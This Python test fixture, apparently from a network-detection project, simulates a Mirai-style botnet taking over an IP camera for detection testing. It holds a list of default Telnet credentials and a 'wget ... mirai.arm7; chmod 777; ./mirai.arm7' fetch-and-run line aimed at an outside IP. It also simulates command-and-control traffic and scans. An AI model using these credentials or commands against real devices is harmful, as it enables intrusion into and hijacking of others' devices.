"""A camera taken by a botnet: Telnet passwords tried, a program fetched, orders taken, others looked for."""

from __future__ import annotations

from sentinel.demo.cast import CAMERA
from tests.craft.plant import (
    COLLEAGUE,
    CONTROL,
    MINUTE,
    OUTSIDE,
    SECOND,
    Actor,
    Plant,
    Scene,
    sweep,
    telnet,
    web,
)  # fmt: skip

OTHERS = tuple(Actor(f"camera-{n}", f"10.20.3.{n}", f"44:19:b6:12:9c:{n}") for n in (51, 52, 53, 54))
PAIRS = (("root", "xc3511"), ("root", "vizxv"), ("root", "888888"), ("admin", "admin"), ("root", "default"),
         ("support", "support"), ("root", "123456"))  # fmt: skip


def play(wire: Plant) -> None:
    """An hour; people look at the camera's page now and then."""
    for n, camera in enumerate((CAMERA, OTHERS[0])):
        for minute in range(3, 60, 20):
            web(wire, (minute + n) * MINUTE, COLLEAGUE, camera, "/doc/page/preview.asp", product="App-webs/")
    at = 20 * MINUTE
    for n, (user, password) in enumerate(PAIRS):
        telnet(wire, at + n * 3 * SECOND, OUTSIDE, CAMERA, user, password, right=False)
    at += 30 * SECOND
    shell = telnet(wire, at, OUTSIDE, CAMERA, "root", "xc3511", right=True)
    shell.client(b"enable\r\n").server(b"# ").client(b"/bin/busybox ECCHI\r\n").server(
        b"ECCHI: applet not found\r\n# "
    )
    shell.client(
        b"wget http://185.220.101.47/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\r\n"
    ).server(b"# ")
    web(wire, shell.now + SECOND, CAMERA, CONTROL, "/bins/mirai.arm7", agent="Wget",
        body=b"\x7fELF" + bytes(1200), kind="application/octet-stream")  # fmt: skip
    orders = wire.tcp(shell.now + 10 * SECOND, CAMERA, CONTROL, 23_231)
    for n in range(10):
        orders.wait(at + (30 + n * 60) * SECOND)
        orders.client(b"\0\0").server(b"\0\0")
    shell.wait(shell.now + 30 * SECOND).close()
    sweep(wire, at + 3 * MINUTE, CAMERA, "10.20.3", 23)
    for k, camera in enumerate(OTHERS):
        for n, (user, password) in enumerate(PAIRS):
            telnet(wire, at + (240 + k * 40 + n * 3) * SECOND, CAMERA, camera, user, password, right=False)
    sweep(wire, at + 8 * MINUTE, CAMERA, "91.200.12", 23, 100)
    orders.close()


SCENE = Scene(
    play,
    attackers=(OUTSIDE, CAMERA),
    victims=(*OTHERS, CONTROL),
    tactics=(
        "credential-access|initial-access",
        "command-and-control",
        "discovery|reconnaissance|credential-access|lateral-movement",
    ),
)
